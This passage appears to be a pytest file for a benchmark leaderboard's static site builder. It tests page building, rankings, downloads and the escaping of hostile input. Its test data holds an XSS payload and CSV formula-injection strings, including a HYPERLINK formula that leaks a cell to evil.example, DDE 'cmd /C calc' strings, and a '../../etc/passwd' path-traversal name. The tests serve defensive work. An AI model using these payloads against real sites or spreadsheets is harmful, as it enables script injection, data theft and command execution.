"""The static site: pages for several results, escaping of hostile strings, safe names, downloads."""
from __future__ import annotations

import csv
import errno
import fcntl
import hashlib
import html
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import factories
import numpy as np
import pandas as pd
import pytest
from markupsafe import escape

from suite import site, validate
from suite.cli import main
from suite.leaderboard import rows as leaderboard
from suite.record import results, tempfiles
from suite.record.errors import GoodbenchError
from suite.site import builder, labels, pages, run_page, tables
from suite.site.formatting import seconds
from suite.site.names import file_slug, run_slug, safe_name
from suite.store.files import safe_filename
from workloads import registry

PAYLOAD = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
SAFE_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*\.(html|csv|json|css|js|txt)$")


def _write_results(folder: Path, rng: np.random.Generator) -> list[dict]:
    docs = [
        factories.synthetic_document("synthetic-alpha", rng=rng, accelerator=0, goodput=True, mfu_level=0.40),
        factories.synthetic_document("synthetic-beta", rng=rng, accelerator=2, mfu_level=0.30),
        factories.synthetic_document("synthetic-gamma", rng=rng, accelerator=5),  # CPU: no energy, no MFU
        factories.synthetic_document("synthetic-alpha", rng=rng, accelerator=3, scale="smoke"),
    ]
    for i, doc in enumerate(docs):
        results.write(folder / f"r{i}.json", doc)
    (folder / "broken.json").write_text('{"schema_version": 1, "runs": []}')
    return docs


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    folder = tmp_path_factory.mktemp("results")
    docs = _write_results(folder, np.random.default_rng(7))
    out = tmp_path_factory.mktemp("site")
    site.build(folder, out)
    return folder, out, docs


def _run_ids(docs):
    return [run["run_id"] for doc in docs for run in doc["runs"]]


def test_every_page_is_built(built):
    folder, out, docs = built
    assert (out / "index.html").is_file() and (out / "compare.html").is_file()
    assert len(list((out / "runs").glob("*.html"))) == len(_run_ids(docs))
    assert len(list((out / "raw").glob("*.json"))) == len(docs)
    assert len(list((out / "systems").glob("*.html"))) == 3
    workload = out / "workloads" / f"{safe_name('lm-char')}.html"
    text = workload.read_text()
    for heading in ("Division: closed — ranked", "Smoke scale — not ranked", "Throughput and energy"):
        assert heading in text
    index = (out / "index.html").read_text()
    assert "broken.json" in index and "synthetic-alpha" in index


def test_raw_copies_are_byte_identical(built):
    folder, out, _ = built
    for i in range(4):
        name = f"r{i}.json"
        assert (out / "raw" / f"{file_slug(name)}.json").read_bytes() == (folder / name).read_bytes()


def test_ranking_and_downloads_agree_with_the_results(built):
    folder, out, docs = built
    base = out / "workloads" / f"{safe_name('lm-char')}-{safe_name('closed')}"
    table = pd.read_csv(base.with_suffix(".csv"))
    assert list(table["system"]) == ["synthetic-alpha", "synthetic-beta"]  # by TTA
    assert table["score_s"].is_monotonic_increasing
    assert json.loads(base.with_suffix(".json").read_text())[0]["system"] == "synthetic-alpha"
    # the CPU: no known peak, so shown apart and never ranked (rules v7)
    unbounded = pd.read_csv(out / "workloads" / f"{safe_name('lm-char')}-no-known-peak.csv")
    assert list(unbounded["system"]) == ["synthetic-gamma"] and not unbounded["known_peak"].any()
    smoke = pd.read_csv(out / "workloads" / f"{safe_name('lm-char')}-smoke.csv")
    assert list(smoke["scale"]) == ["smoke"]
    assert "broken.json" not in set(table["file"]) | set(smoke["file"])
    runs = pd.read_csv(out / "runs.csv")
    assert sorted(runs["run_id"]) == sorted(_run_ids(docs))
    # the HTML table holds the same order, with links to the run pages
    page = (out / "workloads" / f"{safe_name('lm-char')}.html").read_text()
    first = page.index("synthetic-alpha")
    assert first < page.index("synthetic-beta") < page.index("Full scale, not ranked: no known peak") \
        < page.index("synthetic-gamma")
    assert "no known peak, not ranked" in page


def test_missing_measurements_show_a_dash_and_the_energy_note(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    doc = factories.synthetic_document("synthetic-cpu", rng=np.random.default_rng(1), accelerator=5)
    results.write(folder / "cpu.json", doc)
    site.build(folder, tmp_path / "out")
    page = (tmp_path / "out" / "workloads" / f"{safe_name('lm-char')}.html").read_text()
    # a CPU has no known peak: unranked, so not on the throughput-vs-energy chart, and said so
    assert "No ranked full-scale results yet. 1 unranked full-scale result" in page
    assert "<svg" not in page
    # MFU and energy: not measured on this CPU, by its only row: the columns are not shown …
    assert 'class="num c-mfu"' not in page and 'data-kind="num" scope="col">MFU</th>' not in page
    assert "c-energy_per_sample_j" not in page and 'class="num c-samples_per_s"' in page
    # … and the table says which, and why, once per reason: an absent figure never reads as a zero
    note = html.unescape(re.sub(r"<[^>]+>", "", page[page.index('class="meta not-shown"'):]).split("\n")[0])
    assert "Not shown, as no row here has a value (absent, never zero): " in note
    assert "MFU: no dense peak for the device in goodbench's peak table (a CPU has none), so no MFU" in note
    # one reason, said once for every column it holds for
    assert "energy to target, energy per sample, energy per token: not measured: no energy counter was read" in note
    assert note.count("not measured: no energy counter") == 1
    assert "RAPL on a CPU" in note  # a CPU run is measured where RAPL is readable, not never
    assert note.count("no dense peak") == 1 and note.count("MFU") == 2  # the column named once (and its reason's word)
    # the downloads are the stable format: every column, the hidden ones too, as before
    downloads = sorted((tmp_path / "out" / "workloads").glob(f"{safe_name('lm-char')}-*.csv"))
    assert downloads
    for path in downloads:
        header = path.read_text().splitlines()[0].split(",")
        assert {"mfu", "energy_per_sample_j", "energy_to_target_kwh", "energy_per_token_j"} <= set(header)
        assert {"mfu", "energy_per_sample_j"} <= set(json.loads(path.with_suffix(".json").read_text())[0])


def test_a_curve_of_one_evaluation_is_written_out_not_drawn():
    assert run_page.curve_charts([{"step": 40, "val_loss": 3.51234, "time_s": 2.0}], None) == []
    assert run_page.single_point_text([{"step": 40, "val_loss": 3.51234, "time_s": 2.0}]) == \
        "One evaluation, at step 40: validation loss 3.512 (a curve needs two)."
    assert run_page.single_point_text([{"step": 0}, {"step": 8}]) is None


def test_a_cpu_entry_says_it_is_a_cpu_whatever_its_name(built):
    """A CPU run's accelerator is the host's CPU model, which no record checks: a CPU file renamed
    "NVIDIA GeForce RTX 5090" read as that GPU on its row and run page (trial 19)."""
    _, out, docs = built
    cpu = next(d for d in docs if d["system"]["accelerator"]["type"] == "cpu")
    gpu = next(d for d in docs if d["system"]["accelerator"]["type"] == "cuda")
    table = (out / "workloads" / f"{safe_name(cpu['runs'][0]['workload']['id'])}.html").read_text()
    assert f"{escape(cpu['system']['accelerator']['name'])} (CPU)\u00a0×\u00a01" in table
    assert f"{escape(gpu['system']['accelerator']['name'])} (CPU)" not in table
    run = cpu["runs"][0]
    page = (out / "runs" / f"{run_slug(f'r{docs.index(cpu)}.json', run['run_id'])}.html").read_text()
    assert f"{escape(cpu['system']['accelerator']['name'])} (CPU) × 1" in page
    systems = "".join(p.read_text() for p in (out / "systems").glob("*.html"))
    assert f"{escape(cpu['system']['accelerator']['name'])} (CPU) × 1" in systems


def test_run_page_shows_spec_settings_system_and_charts(built):
    _, out, docs = built
    doc = docs[0]
    run = doc["runs"][0]
    page = (out / "runs" / f"{run_slug('r0.json', run['run_id'])}.html").read_text()
    assert run["workload"]["spec_hash"] in page
    assert "&#34;n_layer&#34;" in page  # the pinned spec, escaped JSON
    assert page.count("<svg") == 4  # phases, goodput breakdown, eval curve, step-time histogram
    assert doc["system"]["host"]["cpu_model"] in page
    assert f"../raw/{file_slug('r0.json')}.json" in page
    log_name = f"{run_slug('r0.json', run['run_id'])}-events.txt"
    assert f'href="../raw/{log_name}"' in page and f"({len(run['event_log'])} events)" in page
    lines = (out / "raw" / log_name).read_text().splitlines()
    assert lines[0].startswith("# event log of run") and lines[1:] == run["event_log"]
    assert "self-reported" in page and "checked against each run&#39;s event log (submission_platform)" in page
    assert "Results file <code>r0.json</code>" in page
    assert 'href="../methodology.html#rules"' in page and 'id="rules"' in (out / "methodology.html").read_text()  # code wraps a stored file's 64-hex name on a phone


def test_a_file_stored_under_older_rules_shows_what_later_rules_would_refuse(tmp_path):
    """A file stored before rules v6 required the event log keeps its status: shown, with no log
    linked and the rules it predates listed on its run pages."""
    folder = tmp_path / "results"
    doc = factories.synthetic_document("synthetic-old", rng=np.random.default_rng(5), accelerator=2)
    doc["rules_version"] = 5
    for run in doc["runs"]:
        del run["event_log"]
    results.write(folder / "old.json", doc)
    out = tmp_path / "out"
    site.build(folder, out)
    run = doc["runs"][0]
    page = (out / "runs" / f"{run_slug('old.json', run['run_id'])}.html").read_text()
    assert "no event log in this run" in page and "-events.txt" not in page
    assert "Stored under older rules" in page and "<ul class=\"wrap\">" in page and "not held to v6&#39;s [event-log-missing]" in page


def test_run_context_draws_a_power_trace_and_warnings_where_present():
    doc = factories.synthetic_document("synthetic-t", rng=np.random.default_rng(2), scale="smoke")
    run = dict(doc["runs"][0], telemetry={"power_trace": [[0.0, 300.0], [1.0, 320.5], [2.0, 310.0]],
                                          "warnings": ["thermal slowdown 12% of the window"]})
    context = run_page.run_context("x.json", doc, run)
    titles = re.findall(r"<title>(.*?)</title>", str(context["power_chart"]))
    assert titles == ["power (W) at 0: 300", "power (W) at 1: 320.5", "power (W) at 2: 310"]
    assert context["warnings"] == ["thermal slowdown 12% of the window"]


class _Markup(HTMLParser):
    """Collects every tag and attribute, and the text, of one page."""

    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_hostile_strings_appear_only_escaped(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    rng = np.random.default_rng(3)
    hostile = factories.with_strings(factories.synthetic_document("x", rng=rng), PAYLOAD)
    assert validate.check_document(hostile) == []  # the hostile file is valid: it must be shown
    results.write(folder / "hostile.json", hostile)
    results.write(folder / "plain.json", factories.synthetic_document("synthetic-plain", rng=rng))
    (folder / f"{PAYLOAD.replace('/', '_')}.json").write_text(json.dumps({"error": PAYLOAD}))  # an invalid file
    out = tmp_path / "out"
    site.build(folder, out)
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 10
    seen_payload_text = 0
    for page in pages:
        html = page.read_text()
        for block in re.findall(r'<script type="application/json" id="[a-z-]+">(.*?)</script>', html, re.S):
            assert "<" not in block and ">" not in block  # JSON data cannot end its element early
        assert PAYLOAD not in html and "<script>alert" not in html and "<img" not in html, page
        markup = _Markup()
        markup.feed(html)
        for tag, attrs in markup.tags:
            assert not [a for a in attrs if a.startswith("on")], (page, tag, attrs)
            assert tag != "img"
            if tag == "script":
                assert attrs.get("type") == "application/json" or attrs.get("src", "").endswith(
                    ("static/table.js", "static/compare.js")), (page, attrs)
        seen_payload_text += "".join(markup.text).count(PAYLOAD)
    assert seen_payload_text > 20  # shown to the reader, as text, on many pages
    compare = (out / "compare.html").read_text()
    block = re.search(r'<script type="application/json" id="compare-data">(.*?)</script>', compare, re.S).group(1)
    assert PAYLOAD in json.loads(block)["systems"]
    # event logs are plain-text files (never HTML), linked from the run pages, with the exact text
    logs = [out / "raw" / f"{run_slug('hostile.json', run['run_id'])}-events.txt" for run in hostile["runs"]]
    assert logs and all(json.dumps(PAYLOAD)[1:-1] in log.read_text() for log in logs)  # as the JSON line has it
    # downloads are data files (CSV/JSON), never markup the site renders; they hold the exact text
    assert PAYLOAD in pd.read_csv(out / "runs.csv")["system"].tolist()


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [value for row in csv.reader(fh) for value in row]


def test_csv_downloads_escape_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    rng = np.random.default_rng(11)
    for i, text in enumerate(FORMULAS):  # a submitter's strings: system, accelerator, ... (the validator accepts them)
        doc = factories.with_strings(factories.synthetic_document("x", rng=rng, scale="smoke"), text)
        assert validate.check_document(doc) == []
        results.write(folder / f"hostile-{i}.json", doc)
    results.write(folder / "=cmd|' \t calc'!A0.json", factories.synthetic_document(  # a file name, also a cell
        "synthetic-plain", rng=rng, scale="smoke"))
    out = tmp_path / "out"
    site.build(folder, out)
    downloads = sorted(out.rglob("*.csv"))
    assert {p.name for p in downloads} >= {"runs.csv", "compare.csv"} and len(downloads) > 4
    for path in downloads:
        for value in _csv_cells(path):
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
            if value.startswith("-"):
                float(value)  # only a number starts with "-": a negative number, written as one
    systems = pd.read_csv(out / "runs.csv")["system"].tolist()
    assert {"'" + text for text in FORMULAS} <= set(systems)  # the exact text after the quote
    assert "'=cmd|' \t calc'!A0.json" in pd.read_csv(out / "runs.csv")["file"].tolist()
    raw = json.loads((out / "runs.json").read_text())  # JSON is data, not a spreadsheet: the exact text
    assert set(FORMULAS) <= {row["system"] for row in raw}


def test_csv_escaping_leaves_numbers_as_numbers(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "-x", "plain", None, "\tx", "\rx", "'quoted"],
                          "delta": [-1.5, -2.0, 0.25, float("nan"), 3.0, -4e-9, 1.0],
                          "count": [-3, 2, 1, 0, -1, 5, 7],
                          "mixed": [-1.5, "-1.5", None, 2, "+x", "@x", True]})
    tables.downloads(frame, tmp_path / "t")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["name", "delta", "count", "mixed"] and len(rows) == 8  # the CR stayed inside its cell
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-x", "plain", "", "'\tx", "'\rx", "'quoted"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "-2.0", "0.25", "", "3.0", "-4e-09", "1.0"]  # numbers as written
    assert [r[2] for r in rows[1:]] == ["-3", "2", "1", "0", "-1", "5", "7"]
    assert [r[3] for r in rows[1:]] == ["-1.5", "'-1.5", "", "2", "'+x", "'@x", "True"]  # a number, then a string
    assert pd.read_csv(tmp_path / "t.csv")["delta"].tolist()[:3] == [-1.5, -2.0, 0.25]  # read back as numbers
    assert pd.read_json(tmp_path / "t.json")["name"].tolist()[:3] == ["=1+1", "-x", "plain"]  # JSON: unchanged


def test_file_names_are_sanitised(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    doc = factories.synthetic_document("../../etc/passwd", rng=np.random.default_rng(4), scale="smoke")
    results.write(folder / "..evil name;.json", doc)
    out = tmp_path / "out"
    site.build(folder, out)
    for path in out.rglob("*"):
        assert path.resolve().is_relative_to(out.resolve())
        if path.is_file() and path.name != builder.MARKER:  # the build's own marker file
            assert SAFE_NAME.match(path.name), path.name
    assert not (tmp_path / "etc").exists()


@pytest.mark.parametrize("text", ["../../x", "a/b\\c", "", "ÅÄÖ", ".", "..", "x" * 500, "CON", "a\x00b"])
def test_site_names_are_the_store_names_plus_a_hash(text):
    name = safe_name(text)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*-[0-9a-f]{8}", name) and len(name) <= 49
    assert name.startswith(safe_filename(text, 40) + "-")  # one sanitiser for the whole project
    assert safe_name(text) == name and safe_name(text + "!") != name
    assert safe_name(text.upper()) != safe_name(text.lower()) or text.upper() == text.lower()


def test_event_log_text_is_one_printable_line_per_event():
    run = {"run_id": "ab" * 16, "event_log": [":::MLLOG {\"key\": \"a\nb\\u202e\\t\"}", ":::MLLOG {}\x00\r<b>"]}
    text = run_page.event_log_text("f.json", run)
    lines = text.splitlines()
    assert len(lines) == 3 and lines[0].startswith("# event log of run " + "ab" * 16)
    assert lines[1] == ":::MLLOG {\"key\": \"a\\u000ab\\u202e\\t\"}"  # raw newline and bidi override escaped
    assert lines[2] == ":::MLLOG {}\\u0000\\u000d<b>"  # plain text: markup stays as typed
    assert not re.search(r"[\x00-\x09\x0b-\x1f\u202e]", text)
    assert run_page.event_log_text("f.json", {"run_id": "x", "event_log": []}) is None
    assert run_page.event_log_text("f.json", {"run_id": "x"}) is None


def test_history_chart_follows_a_system_across_suite_versions(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    rng = np.random.default_rng(8)
    speeds = {}
    for i, version in enumerate(["0.10.0", "0.9.1", "0.2.0"]):  # numeric, not text, order
        doc = factories.synthetic_document("synthetic-hist", rng=rng, scale="smoke", workloads=("lm-char",))
        doc["suite"]["version"] = version
        speeds[version] = doc["runs"][0]["metrics"]["throughput"]["samples_per_s"]
        results.write(folder / f"h{i}.json", doc)
    out = tmp_path / "out"
    site.build(folder, out)
    page = (out / "systems" / f"{safe_name('synthetic-hist')}.html").read_text()
    assert "History across suite versions" in page
    svg = page[page.index("History across suite versions"):]
    ticks = re.findall(r'<text class="tick" x="[0-9.]+" y="[0-9.]+" text-anchor="middle">([^<]*)</text>', svg)
    assert ticks == ["0.2.0", "0.9.1", "0.10.0"]
    titles = re.findall(r"<title>smoke scale at ([^:]+): ([^<]+)</title>", svg)
    assert [(v, float(y)) for v, y in titles] == [(v, float(f"{speeds[v]:.4g}")) for v in ("0.2.0", "0.9.1", "0.10.0")]


def test_one_suite_version_gets_a_line_not_a_chart_of_one_dot_per_workload(tmp_path):
    folder = tmp_path / "results"
    folder.mkdir()
    doc = factories.synthetic_document("synthetic-one", rng=np.random.default_rng(3), scale="smoke",
                                       workloads=("lm-char", "gpt2-124m"))
    doc["suite"]["version"] = "0.4.0"
    results.write(folder / "one.json", doc)
    out = tmp_path / "out"
    site.build(folder, out)
    page = (out / "systems" / f"{safe_name('synthetic-one')}.html").read_text()
    assert "<svg" not in page[page.index("All results"):]
    assert "every result here was measured with suite 0.4.0; a chart per workload appears once" in page


def test_history_chart_is_absent_without_throughput():
    frame = pd.DataFrame({"workload": ["lm-char"], "scale": ["full"], "suite_version": ["1.0"],
                          "samples_per_s": [None]})
    assert pages.history_charts(frame) == []


def test_scatter_keeps_the_front_and_each_systems_extremes(monkeypatch):
    monkeypatch.setattr(pages, "SCATTER_POINTS", 3)
    frame = pd.DataFrame({"system": ["a", "a", "a", "b", "b"], "scale": ["full"] * 5,
                          "energy_per_sample_j": [1.0, 2.0, 3.0, 1.5, 0.5], "samples_per_s": [10.0, 5.0, 30.0, 8.0, 1.0],
                          "file": list("vwxyz"), "run_id": ["r"] * 5, "signer": [None] * 5,
                          "energy_unchecked": [None] * 5})
    scatter = pages._scatter(frame, "../")
    svg = str(scatter["chart"])
    assert svg.count("<circle") == 3  # capped; the middle points (2 J, 1.5 J) are not drawn
    assert "a (full): 30 samples/s, 3 J per sample" in svg and "b (full): 1 samples/s, 500 mJ per sample" in svg
    assert "3 of 5 results drawn" in scatter["note"]


def test_scatter_leaves_out_energy_no_other_record_checked():
    """A result whose energy was not checked against the power sampled beside the energy counter
    (``energy_unchecked``: its why) is not compared on the chart, and the note counts it."""
    frame = pd.DataFrame({"system": ["a", "b", "c"], "scale": ["full"] * 3, "energy_per_sample_j": [1.0, 0.1, 2.0],
                          "samples_per_s": [10.0, 50.0, 20.0], "file": list("xyz"), "run_id": ["r"] * 3,
                          "signer": [None] * 3, "energy_unchecked": [None, "the file holds no power sampled", None]})
    scatter = pages._scatter(frame, "../")
    svg = str(scatter["chart"])
    assert svg.count("<circle") == 2 and "b (full)" not in svg
    assert "1 result whose energy is self-reported (not checked against the power sampled beside the energy " \
           "counter) not plotted." in scatter["note"]
    frame["energy_unchecked"] = "the run is shorter than 30 s"
    alone = pages._scatter(frame, "../")
    assert alone["chart"] is None and alone["note"] == (
        "No ranked result of this workload has an energy figure checked against sampled power, so there is no "
        "throughput-vs-energy chart. 3 results whose energy is self-reported (not checked against the power sampled "
        "beside the energy counter) not plotted.")


def test_pareto_front():
    frame = pd.DataFrame({"energy_per_sample_j": [1.0, 2.0, 2.0, 3.0, 0.5],
                          "samples_per_s": [10.0, 20.0, 15.0, 18.0, 5.0]})
    front = leaderboard.pareto_front(frame)
    assert front[["energy_per_sample_j", "samples_per_s"]].values.tolist() == [[0.5, 5.0], [1.0, 10.0], [2.0, 20.0]]


def test_large_tables_are_paginated(tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "PAGE_ROWS", 2)
    folder = tmp_path / "results"
    folder.mkdir()
    rng = np.random.default_rng(5)
    for i in range(5):
        results.write(folder / f"s{i}.json",
                      factories.synthetic_document(f"synthetic-{i}", rng=rng, accelerator=i, scale="smoke"))
    out = tmp_path / "out"
    site.build(folder, out)
    slug = safe_name("lm-char")
    first = (out / "workloads" / f"{slug}.html").read_text()
    assert "page 1 of 3" in first and f'href="{slug}-smoke-p3.html"' in first
    for page in (first, (out / "workloads" / f"{slug}-smoke-p2.html").read_text(),
                 (out / "workloads" / f"{slug}-smoke-p3.html").read_text()):
        body = page.split("<tbody>")[1].split("</tbody>")[0]
        assert 1 <= body.count("<tr>") <= 2
    assert len(pd.read_csv(out / "workloads" / f"{slug}-smoke.csv")) == 5  # downloads hold every row


def test_compare_rows_are_ratios(built):
    _, out, _ = built
    data = pages.compare_data(pd.read_json(out / "compare.json", orient="records"))
    rows = pages.compare_rows(data, "synthetic-alpha", "synthetic-beta")
    tput = next(r for r in rows if r["key"] == "lm-char (full)" and r["metric"] == "samples/s")
    a = data["values"]["synthetic-alpha"]["lm-char (full)"]["samples_per_s"]
    b = data["values"]["synthetic-beta"]["lm-char (full)"]["samples_per_s"]
    assert tput["ratio"] == f"{a / b:.3g}×"
    page = (out / "compare.html").read_text()
    assert "synthetic-alpha" in page and "ratio" in page


STORED_REFERENCE = tuple(Path(__file__).resolve().parent.parent / "results" / f"{sha}.json" for sha in (
    "8e82ba8c459a194248fd0d7d7f25f6b0ee46ac9d3792cec754eec25b31c94dab",
    "d9324eedd0eaf7af78877a527895ae324debb1b5a3ad8f65aa5405e40e61432c",
    "e05a95764b241756bb4542e64fcb74319bf62c71aa5387992615a9cbe4034571",
))
"""The stored results files these tests describe, by name (a file's name is the sha256 of its
bytes): the CPU reference under rules v1 and under today's rules, and another 2-core EPYC stored
before the host's load was recorded. Not the live folder: a file a contributor stores in their
clone (`goodbench submit`, docs/submitting.md) changes nothing here."""


def test_a_comparison_leaves_out_runs_under_load_and_files_only_valid_under_older_rules():
    """The stored CPU reference, valid only under the rules v1 it was stored with, a file with no
    record of the host's load, and an entry measured under load are not pooled into a system's
    best: the compare page lists them apart, with why, and compares what is left (here nothing:
    one system)."""
    read = [leaderboard.read_stored(p)[0] for p in STORED_REFERENCE]
    frame = pd.DataFrame([row for f in read for row in leaderboard.entry_rows(f)], columns=leaderboard.ENTRY_COLUMNS)
    stale = frame[frame["stale_rules"].notna()]
    assert len(stale) and set(stale["file"]) == {f.name for f in read if f.waived}
    assert stale["stale_rules"].iloc[0].startswith("states no rules version (held to v1); today's rules (v")
    fresh = frame[frame["stale_rules"].isna()].copy()
    unknown = fresh[fresh["load_recorded"] == False]  # noqa: E712 - e05a: written before the load was recorded
    assert len(unknown) and len(unknown) < len(fresh)
    fresh.loc[fresh[fresh["load_recorded"] == True].index[0], "under_load"] = \
        "other processes used 1.9 of 2 cores at its start"  # noqa: E712
    kept, left = pages.comparable_entries(pd.concat([stale, fresh]))
    assert len(kept) == len(fresh) - len(unknown) - 1 and len(left) == len(stale) + len(unknown) + 1
    assert sum(r["why"] == pages.LOAD_UNKNOWN for r in left) == len(unknown)
    assert "measured under load: other processes used 1.9 of 2 cores at its start" in [r["why"] for r in left]
    assert left[0]["workload"].endswith(" (smoke)")  # closed: the scale alone
    own = fresh.iloc[[0]].assign(division="own")  # an own-code entry says so, as the compare table keys it
    assert pages.comparable_entries(own)[1][0]["workload"].endswith(" (smoke, own)")
    data = pages.compare_data(pd.concat([stale, fresh]))
    assert data["left_out"] == left and set(data["systems"]) == set(kept["system"])


def test_a_comparison_leaves_out_copies_and_disputed_runs():
    """A walk: a file submitted unsigned, then signed, stood on the compare page as two systems
    with identical runs ("1×, no significant change"); the copy is left out, with why."""
    read = [leaderboard.read_stored(p)[0] for p in STORED_REFERENCE]
    frame = pd.DataFrame([row for f in read for row in leaderboard.entry_rows(f)], columns=leaderboard.ENTRY_COLUMNS)
    fresh = frame[frame["stale_rules"].isna() & (frame["load_recorded"] == True)].head(2).copy()  # noqa: E712
    fresh["under_load"] = None
    fresh["copy_status"] = ["copy", "disputed"]
    kept, left = pages.comparable_entries(fresh)
    assert kept.empty and [r["why"] for r in left] == ["a copy of a run another stored file holds, not ranked",
                                                       "disputed: the same run as one stored first, not ranked"]


def test_the_compare_pages_empty_table_says_what_is_true():
    left = [{"system": "b", "workload": "lm-char (smoke)", "file": "f", "why": "measured under load: …"}]
    assert pages.nothing_to_compare({"systems": [], "left_out": []}) == (
        "No results yet: a comparison needs two systems with results.")
    assert pages.nothing_to_compare({"systems": ["a"], "left_out": []}) == (
        "Nothing to compare: a is the only system with results; a comparison needs two.")
    assert pages.nothing_to_compare({"systems": [], "left_out": left + [{**left[0], "system": "c"}]}) == (
        "Nothing to compare: every result of b, c is left out of comparisons (listed below, with why).")


def test_the_front_page_names_the_latest_results_first_newest_first(built):
    """A new user's own run was reachable only down the page, under Systems: the front page names
    the files stored last at its top, each with its system's page, day and workloads. Files the
    ledger does not list count as stored first, in name order (suite.store.ledger.in_store_order):
    here r3 is the newest."""
    folder, out, docs = built
    index = (out / "index.html").read_text()
    section = index[index.index('<section id="latest">'):index.index("</section>", index.index('id="latest"'))]
    names = re.findall(r'<a href="systems/[^"]+\.html">([^<]+)</a>', section)
    assert names == ["synthetic-alpha", "synthetic-gamma", "synthetic-beta", "synthetic-alpha"]
    created = docs[3]["created_at"]  # to the minute: two files of one day are told apart
    assert "the time its file says it was written (self-reported)" in section  # created_at: the file's own word
    ids = sorted({run["workload"]["id"] for run in docs[3]["runs"]})
    newest = section[section.index("<li>"):section.index("</li>")]
    assert f"<small>({created[:10]} {created[11:16]} UTC: " in newest and newest.endswith(" at smoke scale)</small>")
    # each workload links to the page of the run its entry shows (its first complete run), a page the build wrote
    linked = re.findall(r'<a href="(runs/[^"]+\.html)">([^<]+)</a>', newest)
    assert [name for _, name in linked] == ids
    for href, workload in linked:
        first = next(r for r in docs[3]["runs"] if r["workload"]["id"] == workload and r["status"] == "complete")
        assert (out / href).is_file() and href == f"runs/{run_slug('r3.json', first['run_id'])}.html"
    assert index.index('id="latest"') < index.index('id="workloads"')


@pytest.fixture(scope="module")
def reference_site(tmp_path_factory):
    """The site of the stored results files (copies: the store is never written): the CPU reference
    stored under rules v1, the same system measured again under today's rules, and another 2-core
    EPYC measured under rules v6 before the host's load was recorded."""
    folder = tmp_path_factory.mktemp("reference-results")
    for stored in STORED_REFERENCE:
        (folder / stored.name).write_bytes(stored.read_bytes())
    out = tmp_path_factory.mktemp("reference-site")
    site.build(folder, out)
    docs = {p.name: json.loads(p.read_text()) for p in folder.glob("*.json")}
    return out, docs


def test_the_reference_systems_old_file_is_labelled_and_never_held_against_the_new_one(reference_site):
    """The v1 CPU reference measured faster on its day (another host: a 1.6× higher matmul
    ceiling), but today's rules refuse it: its system page labels its rows with their rules version,
    compares the new result with none of them (no "slower" against a file of other rules), and lists
    them apart with why; the compare page pools the new reference, not the old, and leaves out the
    results with no record of the host's load (the same 2-core machine read 1.7-3x faster)."""
    out, docs = reference_site
    by_rules = {validate.stored_under(d): d for d in docs.values()}
    newest = max(by_rules)  # the reference as stored last (rules v9: v10 came after it, and holds it to v9)
    assert 1 in by_rules and newest >= 9
    old, new = by_rules[1], by_rules[newest]
    assert old["system"]["name"] == new["system"]["name"]
    page = (out / "systems" / f"{safe_name(new['system']['name'])}.html").read_text()
    assert "rules v1" in page and f"rules v{newest}" in page  # under each row's date
    assert "Latest result against the previous one" not in page  # nothing of today's rules to hold it against
    left = html.unescape(page.split('id="not-compared"', 1)[1])
    assert "Left out of comparisons" in left and "states no rules version (held to v1); today's rules" in left
    for verdict in ("faster", "slower"):
        assert f">{verdict}<" not in page
    compare_page = (out / "compare.html").read_text()
    data = json.loads(re.search(r'<script type="application/json" id="compare-data">(.*?)</script>',
                                compare_page, re.S).group(1))
    lm = data["values"][new["system"]["name"]]["lm-char (smoke)"]["samples_per_s"]
    new_lm = next(r for r in new["runs"] if r["workload"]["id"] == "lm-char")
    old_lm = next(r for r in old["runs"] if r["workload"]["id"] == "lm-char")
    assert lm < results.samples_per_s(old_lm)  # the old file was faster, and is not the one pooled
    assert lm == pytest.approx(results.samples_per_s(new_lm), rel=0.05)
    unknown = {d["system"]["name"] for d in docs.values() if d is not old and d is not new}  # e05a: no load record
    assert unknown and not unknown & set(data["values"])  # left out, not compared: the same machine read 1.7-3x faster
    assert {r["system"] for r in data["left_out"] if r["why"] == pages.LOAD_UNKNOWN} == unknown
    assert "no record of the host's load" in html.unescape(compare_page)
    # two systems, one with every result left out: the empty table says that, not that a second is missing
    empty = html.unescape(compare_page.split('<p class="empty">', 1)[1].split("</p>", 1)[0])  # no table of one system
    assert 'id="compare-table"' not in compare_page
    assert empty == (f"Nothing to compare: {new['system']['name']} is the only system with a result a comparison "
                     f"may pool: every result of {', '.join(sorted(unknown))} is left out of comparisons "
                     "(listed below, with why).")
    # the smoke table ranks nothing: today's reference leads it, the v1 file (the fastest figures) comes last
    workload = (out / "workloads" / f"{safe_name('lm-char')}.html").read_text()
    new_run, old_run = (run_slug(n, next(r for r in d["runs"] if r["workload"]["id"] == "lm-char")["run_id"])
                        for d in (new, old) for n in [next(k for k, v in docs.items() if v is d)])
    assert workload.index(new_run) < workload.index(old_run)


def test_rows_of_older_rules_are_greyed_and_the_page_says_so_once(reference_site):
    """The v1 CPU reference (today's rules find problems in it) is greyed on the workload pages,
    its run the only greyed row, and the page says once what grey means; a page without such a row
    says nothing of it."""
    out, docs = reference_site
    old = next(n for n, d in docs.items() if validate.stored_under(d) == 1)
    run = next(r for r in docs[old]["runs"] if r["workload"]["id"] == "lm-char")
